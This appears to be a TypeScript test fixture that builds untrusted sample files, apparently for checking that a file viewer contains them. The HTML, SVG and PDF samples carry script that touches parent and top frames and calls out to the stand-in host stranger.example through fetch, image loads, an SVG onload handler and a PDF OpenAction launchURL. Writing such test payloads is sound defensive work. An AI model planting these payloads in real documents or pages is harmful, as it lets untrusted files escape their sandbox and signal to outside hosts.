// Files as a stranger might send them, each trying to get out, and a sound made here.
const out = (mark: string) =>
  `parent.broken='${mark}';top.broken='${mark}';new Image().src='https://stranger.example/${mark}';fetch('https://stranger.example/${mark}')`
const bytes = (text: string) => new Uint8Array(Buffer.from(text))

export const page = {
  name: 'page.html',
  type: 'text/html',
  bytes: bytes(
    `<!doctype html><title>x</title><script>${out('page')}</script><img src="https://stranger.example/img">`,
  ),
}
export const drawing = {
  name: 'drawing.svg',
  type: 'image/svg+xml',
  bytes: bytes(
    `<svg xmlns="http://www.w3.org/2000/svg" onload="${out('drawing')}"><script>${out('drawing')}</script><image href="https://stranger.example/svg"/></svg>`,
  ),
}
export const paper = {
  name: 'paper.pdf',
  type: 'application/pdf',
  bytes: bytes(
    '%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.launchURL("https://stranger.example/"))>>>>',
  ),
}
export const notFilm = { name: 'film.mp4', type: 'video/mp4', bytes: bytes('\0\0\0\x18ftypisomnothing more') }

/** Half a second of a tone: 8,000 numbers a second. */
export function tone(): { name: string; type: string; bytes: Uint8Array<ArrayBuffer> } {
  const samples = 4000
  const wav = Buffer.alloc(44 + samples, 128)
  wav.write('RIFF', 0)
  wav.writeUInt32LE(36 + samples, 4)
  wav.write('WAVEfmt ', 8)
  wav.writeUInt32LE(16, 16)
  wav.writeUInt16LE(1, 20)
  wav.writeUInt16LE(1, 22)
  wav.writeUInt32LE(8000, 24)
  wav.writeUInt32LE(8000, 28)
  wav.writeUInt16LE(1, 32)
  wav.writeUInt16LE(8, 34)
  wav.write('data', 36)
  wav.writeUInt32LE(samples, 40)
  for (let i = 0; i < samples; i++) wav[44 + i] = 128 + Math.round(60 * Math.sin(i / 3))
  return { name: 'voice.wav', type: 'audio/wav', bytes: new Uint8Array(wav) }
}
